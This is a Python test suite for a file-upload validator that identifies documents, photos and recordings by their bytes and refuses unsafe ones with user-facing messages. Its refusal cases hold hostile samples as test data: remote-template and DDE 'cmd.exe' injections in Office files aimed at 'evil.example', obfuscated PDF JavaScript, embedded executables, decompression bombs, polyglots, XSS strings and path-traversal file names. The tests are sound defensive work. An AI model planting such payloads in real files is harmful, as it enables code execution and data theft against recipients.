"""What may be a file (R-E5): told from the bytes; what is not taken is named with the way on."""

from __future__ import annotations

import zipfile
import zlib
from datetime import timedelta
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from tests.files import samples
from tests.files.samples import SHEET, aac, amr, m4a, mp3, ogg, paper, pdf, photo, wav
from zhitong.domain.files.rules import archives, photos
from zhitong.domain.files.rules.examining import examine
from zhitong.domain.files.rules.kinds import MOST_BYTES, FileFormat, Unfit
from zhitong.domain.files.rules.names import clean_name
from zhitong.domain.files.rules.voices import length_of

HOUR = 3600


@pytest.mark.parametrize(("name", "content", "format", "kept"), [
    ("现场.jpg", photo(), FileFormat.JPEG, "现场.jpg"),
    ("截图.png", photo("PNG"), FileFormat.PNG, "截图.png"),
    ("网图.webp", photo("WEBP"), FileFormat.WEBP, "网图.webp"),
    ("mmexport1524800.jpg", photo("PNG"), FileFormat.PNG, "mmexport1524800.png"),
    ("image", photo(), FileFormat.JPEG, "image.jpg"),
    ("2018.4.27", pdf(), FileFormat.PDF, "2018.4.27.pdf"),
    ("录音.wav", wav(), FileFormat.WAV, "录音.wav"),
    ("录音.amr", amr(), FileFormat.AMR, "录音.amr"),
    ("录音.aac", aac(), FileFormat.AAC, "录音.aac"),
    ("录音.mp3", mp3(), FileFormat.MP3, "录音.mp3"),
    ("录音.m4a", m4a(), FileFormat.M4A, "录音.m4a"),
    ("录音.mp3", m4a(brand=b"mp42"), FileFormat.M4A, "录音.m4a"),
    ("3gpp.3gp", m4a(brand=b"3gp4"), FileFormat.M4A, "3gpp.3gp"),
    ("录音.opus", ogg(), FileFormat.OGG, "录音.opus"),
    ("合同.PDF", pdf(), FileFormat.PDF, "合同.PDF"),
    ("说明.docx", paper(), FileFormat.DOCX, "说明.docx"),
    ("台账.xlsx", paper(SHEET), FileFormat.XLSX, "台账.xlsx"),
    ("说明.txt", "夜间限电。\r\n".encode("gb18030"), FileFormat.TEXT, "说明.txt"),
    ("台账.csv", "企业,户数\n演示,1\n".encode("utf-8-sig"), FileFormat.TEXT, "台账.csv"),
    ("说明.txt", "夜间限电。".encode("utf-16"), FileFormat.TEXT, "说明.txt"),
])  # fmt: skip
def test_what_is_taken_is_known_by_its_bytes(name: str, content: bytes, format: FileFormat, kept: str) -> None:
    taken = examine(name, content)

    assert (taken.format, taken.name) == (format, kept)


def bomb() -> bytes:
    return paper(more={"word/document.xml": bytes(30_000_000)})


def locked() -> bytes:
    content = bytearray(paper())
    content[6] |= 1
    at = content.rindex(b"PK\x01\x02")
    for place in range(content.index(b"PK\x01\x02"), at + 1):
        if content[place : place + 4] == b"PK\x01\x02":
            content[place + 8] |= 1
    return bytes(content)


def external(kind: str, target: str) -> bytes:
    """What a paper fetches when it is opened."""
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationships><Relationship Type="{space}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()


def packed(objects: bytes) -> bytes:
    """Objects of a PDF as it keeps them packed."""
    return b">>endobj 2 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(objects) + b"\nendstream endobj 3 0 obj<<"


@pytest.mark.parametrize("content", [
    paper(more={"word/_rels/document.xml.rels": external("hyperlink", "https://www.gov.cn/")}),
    paper(SHEET, more={"xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", "上月台账.xlsx")}),
    paper(more={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}), pdf(packed(b"<</Type/Page>>")),
], ids=["a link to click", "a sheet beside it", "a chart's own sheet", "packed objects"])
def test_what_offices_do_every_month_is_taken(content: bytes) -> None:
    assert examine("材料", content).content == content


def told(value: object) -> str:
    """Bytes are no name of a test."""
    return value if isinstance(value, str) else ""


@pytest.mark.parametrize(("name", "content", "sentence"), [
    ("空.jpg", b"", "“空.jpg”是空的。请打开看看"),
    ("大.pdf", bytes(MOST_BYTES + 1), "“大.pdf”有20.0MB，超过20MB。请压缩"),
    ("合同.pdf", photo(), "“合同.pdf”的名称以.pdf结尾，内容却是JPG照片。请确认"),
    ("现场.jpg", pdf(), "名称以.jpg结尾，内容却是PDF文档"),
    ("表.docx", paper(SHEET), "名称以.docx结尾，内容却是Excel表格"),
    ("表.csv", pdf(), "名称以.csv结尾"),
    ("坏.jpg", photo()[:300], "“坏.jpg”打不开，不是完整的JPG照片"),
    ("坏.png", photo("PNG")[:80], "不是完整的PNG图片"),
    ("坏.docx", paper()[:-30], "“坏.docx”打不开"),
    ("坏.pdf", pdf()[:-7], "不是完整的PDF文档"),
    ("坏.m4a", m4a()[:20], "不是完整的M4A录音"),
    ("假.mp3", b"ID3" + bytes(600), "不是完整的MP3录音"),
    ("原图.heic", b"\0\0\0\x18ftypheic" + bytes(40), "是HEIC照片，很多电脑打不开。请在手机设置"),
    ("录像.mp4", m4a(handler=b"vide", brand=b"isom"), "“录像.mp4”是视频"),
    ("老.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "是旧格式或者设了密码的文档"),
    ("网页.txt", b"<html><script>alert(1)</script>", "是网页或者程序代码"),
    ("图.svg", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "是网页或者程序代码"),
    ("程序.txt", b"MZ\x90\0\3\0\0\0" + bytes(100), "不是可以上传的文件类型。可以上传照片（JPG"),
    ("程序.exe", b"\x7fELF" + bytes(100), "不是可以上传的文件类型"),
    ("带宏.docx", paper(more={"word/vbaProject.bin": b"x"}), "里面有宏或者程序"),
    ("带宏.docx", paper(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "里面有宏或者程序"),
    ("夹带.docx", paper(more={"word/embeddings/run.exe": b"MZ"}), "里面有宏或者程序"),
    ("夹带.docx", paper(more={"word/embeddings/oleObject1.bin": b"x"}), "里面有宏或者程序"),
    ("旧宏.xlsx", paper(SHEET, more={"xl/macrosheets/sheet1.xml": b"<a/>"}), "里面有宏或者程序"),
    ("远程模板.docx", paper(more={"word/_rels/settings.xml.rels": external("attachedTemplate", "https://evil.example/a.dotm")}),
     "会从别处取内容"),
    ("远程图片.docx", paper(more={"word/_rels/document.xml.rels": external("image", "\\\\evil.example\\a.png")}), "会从别处取内容"),
    ("远程表.xlsx", paper(SHEET, more={"xl/externalLinks/_rels/externalLink1.xml.rels": external("externalLinkPath", "https://evil.example/a")}),
     "会从别处取内容"),
    ("叫程序.xlsx", paper(SHEET, more={"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}), "会从别处取内容"),
    ("叫程序.docx", paper(more={"word/document.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"}), "会从别处取内容"),
    ("脚本二.pdf", pdf(b"/OpenAction<</S/J#61vaScript/JS(app.alert)>>"), "里面有脚本或者夹带的文件"),
    ("脚本三.pdf", pdf(packed(b"<</S/JavaScript/JS(app.alert)>>")), "里面有脚本或者夹带的文件"),
    ("炸弹.pdf", pdf(packed(bytes(40_000_000))), "展开后过大"),
    ("炸弹.docx", bomb(), "展开后过大"),
    ("多.xlsx", paper(SHEET, more={f"xl/{n}.xml": b"" for n in range(archives.MOST_ENTRIES + 1)}), "展开后过大"),
    ("锁.docx", locked(), "设了密码"),
    ("幻灯.pptx", paper(main="presentationml.presentation.main+xml"), "不是可以上传的文件类型"),
    ("脚本.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert)>>"), "里面有脚本或者夹带的文件"),
    ("双面.pdf", pdf() + paper() + b"%%EOF", "里面藏着另一个文件"),
    ("双面.wav", wav() + paper(), "里面藏着另一个文件"),
    ("双面.mp3", b"ID3<script>alert(1)</script>" + mp3(), "里面藏着另一个文件"),
], ids=told)  # fmt: skip
def test_what_is_not_taken_is_named_with_the_way_on(name: str, content: bytes, sentence: str) -> None:
    with pytest.raises(Unfit) as unfit:
        examine(name, content)

    assert sentence in unfit.value.sentence(name)
    assert unfit.value.sentence(name).count("。") == 2


def test_an_archive_of_other_things_is_to_be_unpacked() -> None:
    packed = BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("现场.jpg", photo())

    with pytest.raises(Unfit, match="是压缩包"):
        examine("材料.zip", packed.getvalue())


@pytest.mark.parametrize("content", [wav(HOUR // 3), amr(HOUR), aac(HOUR), mp3(HOUR), m4a(HOUR), ogg(HOUR)])
def test_a_recording_of_an_hour_is_not_taken(content: bytes) -> None:
    assert len(content) < MOST_BYTES

    with pytest.raises(Unfit, match="的录音长于10分钟"):
        examine("录音", content)


@pytest.mark.parametrize(("content", "format"), [
    (wav(7), FileFormat.WAV), (amr(7), FileFormat.AMR), (aac(7), FileFormat.AAC), (mp3(7), FileFormat.MP3),
    (m4a(7), FileFormat.M4A), (ogg(7), FileFormat.OGG),
])  # fmt: skip
def test_the_length_of_a_recording_is_read_from_its_container(content: bytes, format: FileFormat) -> None:
    length = length_of(content, format)

    assert length is not None
    assert abs(length - timedelta(seconds=7)) < timedelta(seconds=0.2)


@pytest.mark.parametrize("format", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("turned", [None, 6])
def test_a_photo_keeps_its_picture_and_its_orientation_and_loses_its_place(format: str, turned: int | None) -> None:
    given = photo(format, turned=turned)
    assert Image.open(BytesIO(given)).getexif().get_ifd(samples.GPS)
    assert format == "PNG" or b"DemoPhone" in given

    content = examine("现场", given + b"<script>").content
    kept = Image.open(BytesIO(content))

    assert kept.size == (60, 40)
    assert kept.getexif().get(samples.ORIENTATION) == turned
    assert not kept.getexif().get_ifd(samples.GPS)
    for told in (b"DemoPhone", b"place: demo", b"<script>"):
        assert told not in content
    assert kept.convert("RGB").getpixel((50, 20))[0] > 150


@pytest.mark.parametrize(("format", "mode"), [
    ("JPEG", "L"), ("JPEG", "CMYK"), ("MPO", "RGB"), ("PNG", "1"), ("PNG", "P"), ("PNG", "LA"), ("PNG", "RGBA"),
    ("PNG", "I;16"), ("WEBP", "RGBA"),
])  # fmt: skip
def test_a_photo_of_any_make_is_taken(format: str, mode: str) -> None:
    out, frames = BytesIO(), [Image.new(mode, (60, 40)) for _ in range(2)]
    more = {"save_all": True, "append_images": frames[1:]} if format == "MPO" else {}
    frames[0].save(out, format, **more)

    taken = examine("现场", out.getvalue())

    assert Image.open(BytesIO(taken.content)).size == (60, 40)
    assert Image.open(BytesIO(taken.small or b"")).mode == "RGB"


def test_the_small_picture_of_a_photo_stands_upright() -> None:
    small = Image.open(BytesIO(examine("现场", photo(size=(1200, 600), turned=6)).small or b""))

    assert (small.format, small.size) == ("JPEG", (160, 320))


def test_a_picture_of_more_pixels_than_phones_make_is_not_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(photos, "MOST_PIXELS", 60 * 40 - 1)

    with pytest.raises(Unfit, match="的像素太多"):
        examine("现场.jpg", photo())


def test_a_moving_picture_is_not_taken() -> None:
    out = BytesIO()
    frames = [Image.new("RGB", (9, 9), color) for color in ("red", "blue")]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:])

    with pytest.raises(Unfit, match="是动图"):
        examine("动.webp", out.getvalue())


WHOLE = [
    photo(), photo("PNG"), photo("WEBP"), wav(1), amr(1), aac(1), mp3(1), m4a(1), pdf(), paper(), paper(SHEET),
    ogg(1), "夜间限电。".encode("gb18030"),
]


def refused_with(content: bytes) -> str:
    """The sentence of the refusal; empty where something is kept."""
    try:
        kept = examine("文件", content)
    except Unfit as unfit:
        return unfit.sentence("文件")
    return "" if kept.content else "nothing"


@pytest.mark.filterwarnings("ignore:.*(EXIF|Truncated|tag|Metadata)")  # Pillow wonders aloud at what it passes over
@settings(deadline=None)
@given(whole=st.sampled_from(WHOLE), cut=st.integers(0, 400), planted=st.binary(max_size=40), at=st.integers(0, 2000))
def test_whatever_is_sent_is_taken_or_refused_in_words(whole: bytes, cut: int, planted: bytes, at: int) -> None:
    place = at % len(whole)

    said = refused_with(whole[:place] + planted + whole[place + cut :])

    assert said == "" or said.startswith("“文件”")


@pytest.mark.parametrize(("given", "kept"), [
    (r"C:\桌面\合同.pdf", "合同.pdf"),
    ("../../etc/合同.pdf", "合同.pdf"),
    ("合同\u202efdp.exe", "合同fdp.exe"),
    ("合\r\n同\x00.pdf", "合同.pdf"),
    ('合<同>:"|?*.pdf', "合_同______.pdf"),
    (" . ", "未命名"),
    ("", "未命名"),
    ("字" * 300 + ".pdf", "字" * 116 + ".pdf"),
])  # fmt: skip
def test_a_name_hides_nothing(given: str, kept: str) -> None:
    assert clean_name(given) == kept
